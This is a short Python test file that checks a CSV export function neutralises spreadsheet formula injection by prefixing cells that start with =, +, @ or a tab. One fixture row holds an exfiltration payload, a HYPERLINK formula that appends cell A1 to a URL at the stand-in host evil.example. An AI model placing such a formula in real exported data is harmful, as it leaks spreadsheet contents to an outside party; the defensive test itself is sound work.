import csv

from kg.export.tables import write_csv


def test_spreadsheet_csv_cells_never_run_as_formulas(tmp_path):
    rows = [['=HYPERLINK("http://evil.example/?"&A1, "click")', 3, -0.5], ["+1+1", "@SUM(A1)", "-2+3"],
            ["\t=1", "GPT-4o", "a=b"]]
    path = write_csv(tmp_path / "t.csv", ["venue", "papers", "score"], rows)
    with open(path, newline="", encoding="utf-8") as handle:
        back = list(csv.reader(handle))
    assert back[0] == ["venue", "papers", "score"]
    assert back[1] == ['\'=HYPERLINK("http://evil.example/?"&A1, "click")', "3", "-0.5"]  # numbers stay numbers
    assert back[2] == ["'+1+1", "'@SUM(A1)", "'-2+3"]
    assert back[3] == ["'\t=1", "GPT-4o", "a=b"]
    assert all(not cell.startswith(("=", "+", "@", "\t", "\r")) for row in back for cell in row)
